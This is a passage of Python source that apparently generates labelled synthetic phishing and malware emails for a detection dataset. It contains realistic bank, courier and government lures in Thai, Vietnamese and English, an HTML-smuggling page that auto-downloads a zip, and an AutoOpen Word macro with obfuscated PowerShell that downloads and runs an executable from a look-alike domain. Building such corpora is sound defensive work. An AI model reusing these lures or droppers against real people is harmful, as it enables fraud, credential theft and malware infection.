<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIHdpZHRoPSI0OCIgaGVpZ2h0PSI0OCI+PHJlY3Qgd2lkdGg9IjQ4IiBoZWlnaHQ9IjQ4IiBmaWxsPSIjMDA3OGQ0Ii8+PC9zdmc+" alt="">
<h3>Preparing your document...</h3><p style="font-size:13px;color:#555">If the download does not start, <a id="l" href="#">click here</a>.</p>
</div>
<script>
var d={js_blob};
function s(){{var b=atob(d),u=new Uint8Array(b.length);for(var i=0;i<b.length;i++)u[i]=b.charCodeAt(i);
var f=new Blob([u],{{type:"application/octet-stream"}}),a=document.createElement("a");
a.href=URL.createObjectURL(f);a.download="Salary_Revision_2026.zip";document.body.appendChild(a);a.click();}}
document.getElementById("l").onclick=function(e){{e.preventDefault();s();}};window.onload=s;
</script></body></html>
"""
    paras = [
        "Dear Daniel,", "",
        "Following the completion of the FY2025 performance review, Management has approved the revised salary and "
        "variable bonus structure effective 1 January 2026.", "",
        "Please find your individual salary revision letter attached. The document is encrypted; open it on your "
        "office laptop and acknowledge receipt by <b>Wednesday, 14 January 2026</b>.", "",
        "Kindly keep the contents strictly confidential.", "",
        "Best regards,",
    ]
    sig = "Human Resources\nHarbourline Logistics Pte Ltd"
    body = Multi("mixed", boundary(stem, "outlook"), [
        Multi("alternative", boundary(stem + "a", "outlook"), [
            text("Dear Daniel,\n\nFollowing the completion of the FY2025 performance review, Management has approved the "
                 "revised salary and variable bonus structure effective 1 January 2026.\n\nPlease find your individual "
                 "salary revision letter attached and acknowledge receipt by Wednesday, 14 January 2026.\n\nBest regards,\n"
                 "Human Resources\nHarbourline Logistics Pte Ltd\n", "plain", "quoted-printable", "us-ascii"),
            qp_html(outlook_html(paras, sig))]),
        Leaf("text/html", att.encode(), "base64", '; charset="utf-8"; name="Salary_Revision_2026_DanielNg.html"',
             'attachment; filename="Salary_Revision_2026_DanielNg.html"'),
    ])
    headers = f"""{dkim(dom, 'default', stem, 'From:To:Subject:Date:Message-ID:MIME-Version:Content-Type', d)}
Received: from DESKTOP-7Q2J4LM (unknown [91.92.243.118])
	by {host} (Postfix) with ESMTPSA id {hx(stem + 'q', 11, True)}
	for <{rcpt}>; {format_datetime(at(d, '+0000'))}
From: Harbourline HR <hr@{dom}>
To: Daniel Ng <{rcpt}>
Subject: Confidential: Your Salary Revision Letter 2026
Date: {format_datetime(at(d, '+0800'))}
Message-ID: <000001dc{hx(stem + 'mid', 8)}${hx(stem + 'mid2', 8)}${hx(stem + 'mid3', 8)}@harbourline-hr.com>
MIME-Version: 1.0
X-Mailer: Microsoft Outlook 16.0
Thread-Index: {b64s(stem + 'ti', 30)}
Content-Language: en-sg"""
    add(stem, "malware", "HR salary-revision lure to company staff from a look-alike HR domain with an HTML attachment "
        "that smuggles an embedded zip holding a PDF-named executable and auto-downloads it on open",
        t_m365(rcpt, d, a, stem, ctry="NL"), headers, body)


# ---------------------------------------------------------------------------
# ATTACKS - Thailand
# ---------------------------------------------------------------------------

def th_kbank() -> None:
    stem = f"b{N}-phish-kbank-kplus-suspend"
    d = D("2025-01-09 07:38:14 +0700")
    rcpt = "pimchanok.s@gmail.com"
    dom = "kasikorn-kplus.com"
    host = f"mail.{dom}"
    a = Auth(f"k-contact@{dom}", "185.225.69.41", host, host, "pass", [(dom, "default", "pass")], "none", "NONE", dom, stem)
    url = f"https://{dom}/kplus/verify?ref={hx(stem + 'r', 16)}"
    html = brand_html(
        "#00a950", "KBank", "บัญชี K PLUS ของท่านถูกระงับการใช้งานชั่วคราว",
        ["เรียน ลูกค้าธนาคารกสิกรไทย",
         "ระบบตรวจพบการเข้าสู่ระบบ K PLUS จากอุปกรณ์ที่ไม่คุ้นเคย เมื่อวันที่ 9 ม.ค. 2568 เวลา 03:12 น. "
         "เพื่อความปลอดภัย ธนาคารได้<b>ระงับการทำธุรกรรมโอนเงินและชำระเงิน</b>ชั่วคราว",
         "กรุณายืนยันตัวตนภายใน <b>24 ชั่วโมง</b> ตามมาตรการของธนาคารแห่งประเทศไทย "
         "มิฉะนั้นบัญชีของท่านจะถูกระงับถาวรและต้องติดต่อที่สาขาด้วยตนเอง"],
        ("ยืนยันตัวตน", url),
        "ธนาคารกสิกรไทย จำกัด (มหาชน) K-Contact Center 02-888-8888<br>อีเมลฉบับนี้เป็นการแจ้งโดยอัตโนมัติ กรุณาอย่าตอบกลับ",
        lang="th", after=["ขอบคุณที่ใช้บริการ<br>ธนาคารกสิกรไทย"])
    plain = ("เรียน ลูกค้าธนาคารกสิกรไทย\n\nระบบตรวจพบการเข้าสู่ระบบ K PLUS จากอุปกรณ์ที่ไม่คุ้นเคย "
             f"กรุณายืนยันตัวตนภายใน 24 ชั่วโมง:\n{url}\n\nธนาคารกสิกรไทย\n")
    body = Multi("alternative", boundary(stem, "phpmailer"), [b64_plain(plain), b64_html(html)])
    headers = f"""{dkim(dom, 'default', stem, 'Content-Type:MIME-Version:Message-ID:Date:Subject:To:From', d)}
Received: from [127.0.0.1] (localhost [127.0.0.1])
	by {host} (Postfix) with ESMTPSA id {hx(stem + 'q', 11, True)}
	for <{rcpt}>; {format_datetime(at(d, '+0000'))}
Date: {format_datetime(at(d, '+0000'))}
To: {rcpt}
From: {addr('KBank - ธนาคารกสิกรไทย', f'k-contact@{dom}')}
Subject: {ew('แจ้งเตือน: บัญชี K PLUS ของท่านถูกระงับชั่วคราว กรุณายืนยันตัวตน')}
Message-ID: {phpmailer_id(stem, dom)}
X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)
MIME-Version: 1.0"""
    add(stem, "phishing", "Thai-language KBank K PLUS suspension lure from a look-alike domain, linking to a K PLUS "
        "credential and OTP phishing page", t_gmail(rcpt, d, a, stem), headers, body)


def th_rd_apk() -> None:
    stem = f"b{N}-phish-thai-rd-refund-apk"
    d = D("2024-08-27 13:45:02 +0700")
    rcpt = "somsak.kaewmanee@outlook.com"
    dom = "rd-taxrefund.com"
    host = "server1.rd-taxrefund.com"
    a = Auth(f"refund@{dom}", "27.254.144.92", host, host, "pass", [], "none", "NONE", dom, stem)
    payload = files.zip_archive([("RD_Smart_Tax.apk", apk("th.go.rd.smarttax", "RD Smart Tax", stem))])
    html = kit_html([
        '<div style="background:#0b2f6b;color:#fff;padding:12px;font-size:18px;font-weight:bold;">กรมสรรพากร The Revenue Department</div>',
        "<p>เรียน ผู้เสียภาษี</p>",
        "<p>กรมสรรพากรได้ตรวจสอบแบบแสดงรายการภาษีเงินได้บุคคลธรรมดา (ภ.ง.ด.90/91) ปีภาษี 2566 ของท่านแล้ว "
        "ท่านมีสิทธิได้รับ<b>เงินคืนภาษีจำนวน 4,860.00 บาท</b></p>",
        "<p>เนื่องจากบัญชีพร้อมเพย์ที่ผูกกับเลขประจำตัวประชาชนของท่านไม่สามารถรับเงินได้ "
        "กรุณาติดตั้งแอปพลิเคชัน <b>RD Smart Tax</b> ที่แนบมานี้ (สำหรับโทรศัพท์ Android) "
        "และยืนยันบัญชีรับเงินภายใน 3 วันทำการ</p>",
        "<p>ขั้นตอน: ดาวน์โหลดไฟล์แนบ &gt; แตกไฟล์ &gt; ติดตั้ง &gt; อนุญาตการเข้าถึงทั้งหมด</p>",
        "<p>กรมสรรพากร<br>โทร 1161</p>",
    ], lang="th")
    body = Multi("mixed", boundary(stem, "phpmailer"), [
        b64_html(html), attachment("application/zip", "RD_Smart_Tax.zip", payload)])
    headers = f"""{hop_local(host, d, stem, '+0700')}
Date: {format_datetime(at(d, '+0700'))}
To: {rcpt}
From: {addr('กรมสรรพากร', f'refund@{dom}')}
Subject: {ew('แจ้งคืนเงินภาษีเงินได้บุคคลธรรมดา ปีภาษี 2566 - กรุณายืนยันบัญชีรับเงิน')}
Message-ID: {phpmailer_id(stem, dom)}
X-Mailer: PHPMailer 6.8.0 (https://github.com/PHPMailer/PHPMailer)
MIME-Version: 1.0"""
    add(stem, "malware", "Thai Revenue Department tax-refund lure from a look-alike domain with a zipped Android APK "
        "posing as an 'RD Smart Tax' app, the remote-access banking-trojan pattern seen in Thailand",
        t_m365(rcpt, d, a, stem, ctry="TH", lang="th", consumer=True, region="apcprd03"), headers, body)


def th_pea_line() -> None:
    stem = f"b{N}-phish-pea-deposit-line"
    d = D("2024-07-15 10:22:40 +0700")
    rcpt = "somchai.rattanakorn@yahoo.com"
    dom = "thaiprint-pack.co.th"
    mbx = "KL1PR01MB" + digits(stem + "mb", 4)
    a = Auth(f"sales2@{dom}", "40.107.117.70", "mail-sgaapc01on2070.outbound.protection.outlook.com",
             "APC01-SG2-obe.outbound.protection.outlook.com", "pass", [(dom, "selector1", "pass")], "none", "NONE", dom, stem)
    line = "https://lin.ee/" + alnum(stem + "line", 7)
    web = "https://pea-refund.cc/th/deposit"
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body dir="ltr">'
            '<div style="font-family: Tahoma, sans-serif; font-size: 12pt;">'
            '<p style="color:#74045f;font-size:16pt;"><b>การไฟฟ้าส่วนภูมิภาค (PEA)</b></p>'
            "<p>เรียน ผู้ใช้ไฟฟ้า</p>"
            "<p>PEA ขอแจ้งสิทธิ์<b>รับเงินคืนค่าประกันการใช้ไฟฟ้า</b> สำหรับผู้ใช้ไฟฟ้าประเภทบ้านอยู่อาศัย "
            "จำนวน <b>2,000 บาท</b> พร้อมดอกผล ตามมติคณะรัฐมนตรี</p>"
            "<p>ท่านสามารถลงทะเบียนขอรับเงินคืนได้ง่าย ๆ ผ่าน LINE Official Account ของ PEA:</p>"
            f'<p><a href="{line}">{line}</a></p>'
            f'<p>หรือที่เว็บไซต์ <a href="{web}">{web}</a></p>'
            "<p>หมดเขตลงทะเบียน 31 กรกฎาคม 2567</p>"
            "<p>การไฟฟ้าส่วนภูมิภาค<br>PEA Contact Center 1129</p></div></body></html>")
    plain = (f"เรียน ผู้ใช้ไฟฟ้า\n\nPEA ขอแจ้งสิทธิ์รับเงินคืนค่าประกันการใช้ไฟฟ้า จำนวน 2,000 บาท\n"
             f"ลงทะเบียนผ่าน LINE: {line}\nหรือ {web}\n\nการไฟฟ้าส่วนภูมิภาค\n")
    body = Multi("alternative", f"_000_{mbx}{hx(stem, 24, True)}_", [b64_plain(plain), b64_html(html)])
    headers = f"""{dkim(dom, 'selector1', stem, 'From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck', d)}
Received: from {mbx}.apcprd01.prod.outlook.com
 ([fe80::{hx(stem + 'f1', 4)}:{hx(stem + 'f2', 4)}:{hx(stem + 'f3', 4)}:{hx(stem + 'f4', 4)}]) by {mbx}.apcprd01.prod.outlook.com
 ([fe80::{hx(stem + 'f1', 4)}:{hx(stem + 'f2', 4)}:{hx(stem + 'f3', 4)}:{hx(stem + 'f4', 4)}%5]) with mapi id 15.20.7762.027; {rfc_utc(d)}
From: {addr('PEA การไฟฟ้าส่วนภูมิภาค', f'sales2@{dom}')}
Subject: {ew('PEA แจ้งสิทธิ์รับเงินคืนค่าประกันการใช้ไฟฟ้า 2,000 บาท')}
Thread-Topic: {ew('PEA แจ้งสิทธิ์รับเงินคืนค่าประกันการใช้ไฟฟ้า 2,000 บาท', first=14)}
Thread-Index: {tindex(stem, 16, 'da')}
Date: {format_datetime(at(d, '+0000'))}
Message-ID:
 <{mbx}{hx(stem + 'omid', 28, True)}@{mbx}.apcprd01.prod.outlook.com>
Accept-Language: th-TH, en-US
Content-Language: th-TH
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
To: undisclosed-recipients:;
MIME-Version: 1.0"""
    add(stem, "phishing", "Thai PEA electricity-deposit refund lure sent from a compromised Thai company's Microsoft 365 "
        "mailbox, steering victims to a fake PEA LINE Official Account (lin.ee) and a look-alike site",
        t_yahoo(rcpt, d, a, stem), headers, body)


def th_flash() -> None:
    stem = f"b{N}-phish-flash-express-cod"
    d = D("2025-06-19 11:14:27 +0700")
    rcpt = "nattaya.jaidee@gmail.com"
    dom = "flashexpress-th.net"
    uid = digits(stem + "uid", 8)
    mf = f"bounces+{uid}-{hx(stem + 'b', 4)}-nattaya.jaidee=gmail.com@em4412.{dom}"
    a = Auth(mf, "149.72.161.59", f"o3.ptr9021.{dom}", f"o3.ptr9021.{dom}", "pass",
             [(dom, "s1", "pass"), ("sendgrid.info", "smtpapi", "pass")], "none", "NONE", dom, stem)
    click = f"https://u{uid}.ct.sendgrid.net/ls/click?upn=u001.{b64s(stem + 'upn', 110).replace('/', '-').replace('+', '_')}"
    trk = f"TH{digits(stem + 'trk', 12)}"
    html = brand_html(
        "#ffd400", "Flash Express", "พัสดุของท่านไม่สามารถจัดส่งได้",
        ["เรียน ลูกค้า Flash Express",
         f"พัสดุหมายเลข <b>{trk}</b> ไม่สามารถจัดส่งได้เนื่องจากที่อยู่ไม่ครบถ้วน และมีค่าธรรมเนียมการจัดส่งใหม่ "
         "<b>19 บาท</b> ที่ยังไม่ได้ชำระ",
         "กรุณาอัปเดตที่อยู่และชำระค่าธรรมเนียมภายใน 24 ชั่วโมง มิฉะนั้นพัสดุจะถูกส่งคืนผู้ส่ง"],
        ("อัปเดตที่อยู่", click),
        "Flash Express Co., Ltd. | Call Center 1468", lang="th")
    html = html.replace('<span style="font-size:22px;font-weight:bold;color:#ffffff;">', '<span style="font-size:22px;font-weight:bold;color:#000000;">')
    body = Multi("alternative", boundary(stem, "sendgrid"), [
        b64_plain(f"พัสดุหมายเลข {trk} ไม่สามารถจัดส่งได้ กรุณาชำระค่าธรรมเนียม 19 บาท: {click}\n"), b64_html(html)])
    headers = f"""{dkim(dom, 's1', stem, 'content-type:from:mime-version:subject:x-feedback-id:to:cc:content-type:from:subject:to', d)}
{dkim('sendgrid.info', 'smtpapi', stem, 'content-type:from:mime-version:subject:x-feedback-id:to:cc:content-type:from:subject:to', d)}
Received: by filterdrecv-5d8b9c7f6d-9qk2m with SMTP id filterdrecv-5d8b9c7f6d-9qk2m-1-6853876B-2C
        {rfc_utc(d)}
Received: from {uid} (unknown)
	by geopod-ismtpd-9 (SG) with HTTP
	id {alnum(stem + 'sgid', 22)}
	{format_datetime(at(d, '+0000')).replace('+0000', '(UTC)')}
Date: {format_datetime(at(d, '+0000'))}
From: Flash Express <noreply@{dom}>
Mime-Version: 1.0
Message-ID: <{alnum(stem + 'mid', 22)}@geopod-ismtpd-9>
Subject: {ew('Flash Express: พัสดุ ' + trk + ' จัดส่งไม่สำเร็จ - ชำระค่าธรรมเนียม 19 บาท')}
X-Feedback-ID: {uid}:SG
X-SG-EID: u001.{b64s(stem + 'eid', 140)}
To: {rcpt}"""
    add(stem, "phishing", "Thai Flash Express failed-delivery small-fee lure sent through a SendGrid account on a "
        "look-alike domain, with a SendGrid-wrapped link to a card-harvesting page", t_gmail(rcpt, d, a, stem), headers, body)


def th_ais_points() -> None:
    stem = f"b{N}-phish-ais-points-expire"
    d = D("2025-12-02 18:40:55 +0700")
    rcpt = "kittipong_w@hotmail.com"
    dom = "ais-pointreward.com"
    host = f"mail.{dom}"
    a = Auth(f"points@{dom}", "103.245.164.19", host, host, "pass", [(dom, "mail", "pass")], "none", "NONE", dom, stem)
    url = f"https://{dom}/redeem?m={hx(stem + 'm', 10)}"
    html = brand_html(
        "#7cb342", "AIS Points", "คะแนน AIS Points ของท่านจะหมดอายุ 31 ธ.ค. 2568",
        ["เรียน ลูกค้า AIS",
         "ท่านมีคะแนน AIS Points สะสม <b>12,480 คะแนน</b> ที่จะหมดอายุในวันที่ 31 ธันวาคม 2568",
         "แลกรับ <b>หูฟังไร้สาย หรือ Power Bank 20,000 mAh</b> ได้ฟรี เพียงชำระค่าจัดส่ง 39 บาท"],
        ("แลกคะแนนเลย", url),
        "Advanced Info Service PLC. AIS Call Center 1175", lang="th")
    body = Multi("alternative", boundary(stem, "roundcube"), [
        b64_plain(f"คะแนน AIS Points 12,480 คะแนนจะหมดอายุ 31 ธ.ค. 2568 แลกรับของรางวัล: {url}\n"), b64_html(html)])
    headers = f"""{dkim(dom, 'mail', stem, 'From:To:Subject:Date:Message-ID:MIME-Version:Content-Type', d)}
Received: from localhost (localhost [127.0.0.1])
	by {host} (Postfix) with ESMTPSA id {hx(stem + 'q', 11, True)}
	for <{rcpt}>; {format_datetime(at(d, '+0000'))}
From: AIS Points <points@{dom}>
To: {rcpt}
Subject: {ew('คะแนน AIS Points 12,480 คะแนนของท่านกำลังจะหมดอายุ แลกรับของรางวัลฟรี')}
Date: {format_datetime(at(d, '+0000'))}
Message-ID: <{hx(stem + 'mid', 24)}@{dom}>
MIME-Version: 1.0"""
    add(stem, "phishing", "Thai AIS Points expiry lure from a look-alike domain offering a free gift for a 39-baht "
        "shipping fee, linking to a card-harvesting page",
        t_m365(rcpt, d, a, stem, ctry="SG", lang="th", consumer=True, region="apcprd03"), headers, body)


def th_scb_docm() -> None:
    stem = f"b{N}-phish-scb-remittance-docm"
    d = D("2024-10-29 15:02:19 +0700")
    rcpt = "account@siamagri-export.co.th"
    dom = "scb-businessnet.com"
    host = "mail.scb-businessnet.com"
    a = Auth(f"remittance@{dom}", "194.169.175.36", host, host, "pass", [], "none", "NONE", dom, stem)
    macro = """Attribute VB_Name = "ThisDocument"
Sub AutoOpen()
    Dim s As String
    s = "po" & "wer" & "shell -w hidden -ep bypass -c ""(New-Object Net.WebClient).DownloadFile('https://scb-businessnet.com/doc/adv.dat','%TEMP%\\adv.exe');Start-Process '%TEMP%\\adv.exe'" & Chr(34)
    CreateObject("WScript.Shell").Run s, 0, False
End Sub
"""
    doc = files.docx(["SIAM COMMERCIAL BANK PUBLIC COMPANY LIMITED", "OUTWARD REMITTANCE ADVICE",
                      "This document is protected. Please click 'Enable Content' to view the remittance details."],
                     "Remittance Advice", "SCB Business Net", macro=macro)
    paras = [
        "Dear Sir/Madam,", "",
        "Please be informed that we have processed an outward telegraphic transfer in favour of your company on "
        "behalf of our customer. Details are in the attached remittance advice.", "",
        "Transaction Ref: FTT2410290{}".format(digits(stem + "ref", 6)), "Value Date: 29 Oct 2024",
        "Amount: USD 48,250.00", "", "Kindly confirm receipt with your accounting team.", "",
        "Best regards,", "SCB Business Net - Trade and Remittance Services",
        "The Siam Commercial Bank Public Company Limited",
    ]
    body = Multi("mixed", boundary(stem, "outlook"), [
        Multi("alternative", boundary(stem + "a", "outlook"), [
            text("\n".join(paras) + "\n", "plain", "quoted-printable", "us-ascii"),
            qp_html(outlook_html(paras))]),
        attachment("application/vnd.ms-word.document.macroEnabled.12", "SCB_Remittance_Advice_29102024.docm", doc),
    ])
    headers = f"""Received: from WIN-8M2KQ1H7R0D (unknown [194.169.175.36])
	by {host} (Postfix) with ESMTPA id {hx(stem + 'q', 11, True)}
	for <{rcpt}>; {format_datetime(at(d, '+0200'))}
From: "SCB Business Net" <remittance@{dom}>
To: <{rcpt}>
Subject: Payment Remittance Advice - USD 48,250.00 - Ref FTT2410290{digits(stem + 'ref', 6)}
Date: {format_datetime(at(d, '+0200'))}
Message-ID: <000001db{hx(stem + 'mid', 8)}${hx(stem + 'mid2', 8)}${hx(stem + 'mid3', 8)}@{dom}>
MIME-Version: 1.0
X-Mailer: Microsoft Outlook 16.0
Thread-Index: {b64s(stem + 'ti', 30)}
Content-Language: en-us"""
    add(stem, "malware", "English SCB outward-remittance advice to a Thai exporter's Google Workspace mailbox from a "
        "look-alike domain, attaching a macro-enabled Word document whose AutoOpen macro downloads and runs a payload",
        t_gmail(rcpt, d, a, stem), headers, body)


def th_thaid_qr() -> None:
    stem = f"b{N}-phish-thaid-qr"
    d = D("2025-03-04 09:55:38 +0700")
    rcpt = "wanida.pongsiri@gmail.com"
    dom = "thaid-dopa.com"
    host = f"mail.{dom}"
    a = Auth(f"noreply@{dom}", "45.141.215.72", host, host, "pass", [(dom, "mail", "pass")], "none", "NONE", dom, stem)
    url = f"https://{dom}/verify?id={hx(stem + 'id', 12)}"
    qr = files.qr_png(url)
    cid = f"{hx(stem + 'cid', 12)}@{dom}"
    html = f"""<html><head><meta charset="utf-8"></head><body style="font-family:Tahoma,sans-serif;">
<div style="max-width:560px;margin:0 auto;border:1px solid #ddd;">
<div style="background:#1b3f8b;color:#fff;padding:14px;font-size:18px;"><b>ThaID</b> กรมการปกครอง กระทรวงมหาดไทย</div>
<div style="padding:18px;font-size:14px;line-height:22px;">
<p>เรียน ผู้ใช้งานแอปพลิเคชัน ThaID</p>
<p>ตามประกาศกรมการปกครอง ผู้ใช้งาน ThaID ทุกท่านต้อง<b>ยืนยันตัวตนซ้ำ (Re-KYC)</b> ภายในวันที่ 10 มีนาคม 2568
มิฉะนั้นบัตรประจำตัวประชาชนดิจิทัลของท่านจะถูกระงับการใช้งาน และไม่สามารถใช้เข้าสู่ระบบหน่วยงานรัฐได้</p>
<p>กรุณาสแกน QR Code ด้านล่างด้วยโทรศัพท์มือถือเพื่อดำเนินการ</p>
<p style="text-align:center;"><img src="cid:{cid}" width="200" height="200" alt="QR"></p>
<p>กรมการปกครอง<br>สายด่วน 1548</p></div></div></body></html>
"""
    body = Multi("related", boundary(stem, "roundcube"), [
        b64_html(html), attachment("image/png", "thaid-qr.png", qr, inline=True, cid=cid)])
    headers = f"""{dkim(dom, 'mail', stem, 'From:To:Subject:Date:Message-ID:MIME-Version:Content-Type', d)}
Received: from localhost (localhost [127.0.0.1])
	by {host} (Postfix) with ESMTPSA id {hx(stem + 'q', 11, True)}
	for <{rcpt}>; {format_datetime(at(d, '+0000'))}
From: {addr('ThaID กรมการปกครอง', f'noreply@{dom}')}
To: {rcpt}
Subject: {ew('ThaID: กรุณายืนยันตัวตนซ้ำภายใน 10 มี.ค. 2568 เพื่อหลีกเลี่ยงการระงับบัตรดิจิทัล')}
Date: {format_datetime(at(d, '+0000'))}
Message-ID: <{hx(stem + 'mid', 24)}@{dom}>
MIME-Version: 1.0"""
    add(stem, "phishing", "Thai ThaID digital-ID re-KYC lure from a look-alike Department of Provincial Administration "
        "domain where the only call to action is an inline QR code pointing to the kit", t_gmail(rcpt, d, a, stem), headers, body)


# ---------------------------------------------------------------------------
# ATTACKS - Vietnam
# ---------------------------------------------------------------------------

def vn_vcb_biometric() -> None:
    stem = f"b{N}-phish-vcb-sinh-trac-hoc"
    d = D("2024-12-20 08:26:51 +0700")
    rcpt = "nguyenthuha.1992@gmail.com"
    dom = "vietcombank-sinhtrachoc.com"
    host = f"mail.{dom}"
    a = Auth(f"thongbao@{dom}", "103.97.125.204", host, host, "pass", [(dom, "default", "pass")], "none", "NONE", dom, stem)
    url = f"https://{dom}/xac-thuc?ma={hx(stem + 'ma', 12)}"
    html = brand_html(
        "#006b3f", "Vietcombank", "Cập nhật xác thực sinh trắc học trước ngày 01/01/2025",
        ["Kính gửi Quý khách,",
         "Thực hiện Quyết định 2345/QĐ-NHNN của Ngân hàng Nhà nước, từ ngày <b>01/01/2025</b> các giao dịch chuyển "
         "tiền trên 10 triệu đồng hoặc tổng giao dịch trong ngày trên 20 triệu đồng bắt buộc phải xác thực bằng "
         "<b>sinh trắc học</b> khuôn mặt khớp với CCCD gắn chip.",
         "Hệ thống ghi nhận tài khoản VCB Digibank của Quý khách <b>chưa cập nhật</b> thông tin sinh trắc học. "
         "Để tránh gián đoạn giao dịch, Quý khách vui lòng cập nhật ngay qua đường dẫn dưới đây:"],
        ("Cập nhật ngay", url),
        "Ngân hàng TMCP Ngoại thương Việt Nam - Hotline 1900 54 54 13<br>Email này được gửi tự động, vui lòng không trả lời.",
        lang="vi", after=["Trân trọng,<br>Vietcombank"])
    plain = ("Kính gửi Quý khách,\n\nTài khoản VCB Digibank của Quý khách chưa cập nhật thông tin sinh trắc học. "
             f"Vui lòng cập nhật trước ngày 01/01/2025:\n{url}\n\nTrân trọng,\nVietcombank\n")
    body = Multi("alternative", boundary(stem, "phpmailer"), [qp_plain(plain), qp_html(html)])
    headers = f"""{dkim(dom, 'default', stem, 'Content-Type:MIME-Version:Message-ID:Date:Subject:To:From', d)}
Received: from [127.0.0.1] (localhost [127.0.0.1])
	by {host} (Postfix) with ESMTPSA id {hx(stem + 'q', 11, True)}
	for <{rcpt}>; {format_datetime(at(d, '+0700'))}
Date: {format_datetime(at(d, '+0700'))}
To: {rcpt}
From: Vietcombank <thongbao@{dom}>
Subject: {ew('[Vietcombank] Thông báo cập nhật sinh trắc học trước 01/01/2025')}
Message-ID: {phpmailer_id(stem, dom)}
X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)
MIME-Version: 1.0"""
    add(stem, "phishing", "Vietnamese Vietcombank biometric-authentication deadline lure (exploiting the 2024 SBV rule) "
        "from a look-alike domain, linking to a page collecting VCB Digibank login, OTP and face video",
        t_gmail(rcpt, d, a, stem), headers, body)


def vn_phat_nguoi() -> None:
    stem = f"b{N}-phish-phat-nguoi-csgt"
    d = D("2025-05-13 14:08:29 +0700")
    rcpt = "tran.minh.khoa@hotmail.com"
    dom = "thanhphatgroup.vn"
    host = f"mail.{dom}"
    a = Auth(f"ketoan02@{dom}", "14.225.210.77", host, host, "pass", [(dom, "default", "pass")], "none", "NONE", dom, stem)
    url = "https://csgt-tracuu.com/phat-nguoi/?bks=" + f"51K{digits(stem + 'bks', 5)}"
    paras = [
        "<p><b>CỤC CẢNH SÁT GIAO THÔNG - BỘ CÔNG AN</b></p>",
        "<p>THÔNG BÁO VI PHẠM HÀNH CHÍNH QUA HÌNH ẢNH (PHẠT NGUỘI)</p>",
        f"<p>Phương tiện mang biển kiểm soát <b>51K-{digits(stem + 'bks', 3)}.{digits(stem + 'bks2', 2)}</b> đã bị hệ thống "
        "camera giám sát ghi nhận hành vi <b>vượt đèn đỏ</b> tại nút giao Nguyễn Văn Linh - Nguyễn Hữu Thọ, TP.HCM "
        "lúc 21:14 ngày 08/05/2025.</p>",
        "<p>Mức phạt theo Nghị định 168/2024/NĐ-CP: <b>18.000.000 đồng</b> và trừ 4 điểm giấy phép lái xe.</p>",
        "<p>Chủ phương tiện có thể <b>nộp phạt trực tuyến được giảm 50%</b> nếu thanh toán trong vòng 48 giờ tại "
        f'Cổng tra cứu: <a href="{url}">{url}</a></p>',
        "<p>Quá thời hạn trên, hồ sơ sẽ được chuyển về Công an địa phương nơi cư trú để xử lý.</p>",
        "<p>Trân trọng,<br>Phòng Hướng dẫn tuyên truyền, điều tra giải quyết tai nạn giao thông</p>",
    ]
    body = Multi("alternative", boundary(stem, "roundcube"), [
        qp_plain("THÔNG BÁO PHẠT NGUỘI\n\nPhương tiện của bạn bị ghi nhận vượt đèn đỏ. Nộp phạt trực tuyến giảm 50% trong "
                 f"48 giờ: {url}\n"),
        qp_html(kit_html(paras, lang="vi"))])
    headers = f"""{dkim(dom, 'default', stem, 'Content-Type:Message-ID:Subject:To:From:Date:MIME-Version', d)}
Received: from webmail.{dom} (localhost [127.0.0.1])
	(Authenticated sender: ketoan02@{dom})
	by {host} (Postfix) with ESMTPA id {hx(stem + 'q', 11, True)};
	{format_datetime(at(d, '+0700'))}
MIME-Version: 1.0
Date: {format_datetime(at(d, '+0700'))}
From: {addr('Cục CSGT - Bộ Công An', f'ketoan02@{dom}')}
To: {rcpt}
Subject: {ew('Thông báo phạt nguội - Phương tiện vi phạm vượt đèn đỏ - Hạn nộp 48 giờ')}
Message-ID: <{hx(stem + 'mid', 32)}@{dom}>
X-Sender: ketoan02@{dom}
User-Agent: Roundcube Webmail/1.5.3"""
    add(stem, "phishing", "Vietnamese traffic-camera fine (phat nguoi) lure with a 50%-discount deadline, sent from a "
        "compromised Vietnamese company webmail account under a traffic-police display name, linking to a payment kit",
        t_m365(rcpt, d, a, stem, ctry="VN", lang="vi", consumer=True, region="apcprd03"), headers, body)


def vn_tax_exe() -> None:
    stem = f"b{N}-phish-cuc-thue-zip-exe"
    d = D("2025-08-05 09:41:03 +0700")
    rcpt = "ketoan@anphatco.vn"
    dom = "thuedientu-gdt.com"
    host = f"mail.{dom}"
    a = Auth(f"thongbao@{dom}", "45.124.94.156", host, host, "pass", [(dom, "default", "pass")], "none", "NONE", dom, stem)
    payload = files.zip_archive([
        ("ThongBao_ChamNop_HSKT_Q2-2025.pdf.exe", files.pe_stub()),
        ("HuongDan.txt", "Vui long mo file ThongBao de xem chi tiet.\r\n".encode()),
    ])
    paras = [
        "Kính gửi: Người nộp thuế,", "",
        "Cục Thuế thông báo đơn vị chưa nộp <b>hồ sơ khai thuế GTGT quý II/2025</b> đúng thời hạn quy định tại "
        "Luật Quản lý thuế số 38/2019/QH14. Chi tiết thông báo và biên bản vi phạm hành chính được gửi kèm theo email này.", "",
        "Đề nghị đơn vị kiểm tra và phản hồi trong vòng <b>05 ngày làm việc</b> để tránh bị xử phạt và cưỡng chế "
        "hóa đơn điện tử.", "",
        "Mật khẩu giải nén: <b>2025</b>", "",
        "Trân trọng,", "Cục Thuế - Bộ Tài chính",
    ]
    body = Multi("mixed", boundary(stem, "thunderbird"), [
        Multi("alternative", boundary(stem + "a", "thunderbird"), [
            qp_plain("\n".join(p.replace("<b>", "").replace("</b>", "") for p in paras) + "\n"),
            qp_html('<html><head><meta http-equiv="content-type" content="text/html; charset=UTF-8"></head><body>'
                    + "".join(f"<p>{p}</p>" if p else "<br>" for p in paras) + "</body></html>\n")]),
        attachment("application/x-zip-compressed", "ThongBao_ChamNop_HSKT_Q2-2025.zip", payload),
    ])
    headers = f"""{dkim(dom, 'default', stem, 'Content-Type:Subject:From:To:MIME-Version:Date:Message-ID', d)}
Received: from [192.168.1.14] (unknown [113.185.44.19])
	(Authenticated sender: thongbao@{dom})
	by {host} (Postfix) with ESMTPSA id {hx(stem + 'q', 11, True)}
	for <{rcpt}>; {format_datetime(at(d, '+0700'))}
